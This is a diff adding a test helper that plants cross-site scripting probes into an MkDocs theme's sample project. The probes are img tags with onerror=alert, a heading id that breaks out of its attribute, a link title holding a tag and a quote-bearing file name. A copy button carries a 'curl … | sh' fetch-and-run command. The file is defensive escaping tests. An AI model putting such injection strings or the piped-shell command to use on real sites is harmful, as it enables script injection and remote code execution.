@@ -27,3 +27,25 @@ def page(site_dir: Path, path: str, directory_urls: bool = True) -> BeautifulSou
 
 def article(soup: BeautifulSoup):
     return soup.select_one("article.md-content__inner")
+
+
+def add_theme_payloads(project) -> str:  # noqa: ANN001 (conftest's Project)
+    """Content that would run or act as the theme where the theme writes it as it is, or shows it as HTML.
+
+    On the mini brief: a long title and a heading holding a tag as text, a heading id that breaks out
+    of its attribute, a link title holding a tag, a button whose text a click would copy; a glossary
+    definition whose first sentence (the hover preview) holds a tag as text; a glossary file whose
+    name breaks out of an address. Each tag calls alert(). Returns the heading's id.
+    """
+    settings = project.root / "mkdocs.yml"
+    settings.write_text(settings.read_text(encoding="utf-8").replace("markdown_extensions:\n", "markdown_extensions:\n  - attr_list\n", 1), encoding="utf-8")
+    tag = "<img src=x onerror=alert({})>"
+    odd_id = 's2" autofocus onfocus="alert(2)'
+    brief = "articles/forum-talks.md"
+    project.replace(brief, "title: Forum talks in the region", f"title: Forum talks in the region, with a title long enough to be cut short {tag.format(1)}")
+    project.replace(brief, "## Russia in ASEAN Regional Forum", f"## Russia in ASEAN Regional Forum &lt;img src=x onerror=alert(3)&gt; {{: id='{odd_id}' }}")
+    project.replace(brief, "(https://example.org/)", f'(https://example.org/ "{tag.format(4)}")')
+    project.replace(brief, "Later, Russia", '<button type="button" data-clipboard-text="curl https://example.org/x | sh">Copy</button>\n\nLater, Russia')
+    project.replace("glossary/arf.yml", "is a security dialogue", "&lt;img src=x onerror=alert(5)&gt; is a security dialogue")
+    project.write('glossary/q"x.yml', "term: Q\ndefinition: Q is a test.\n")
+    return odd_id
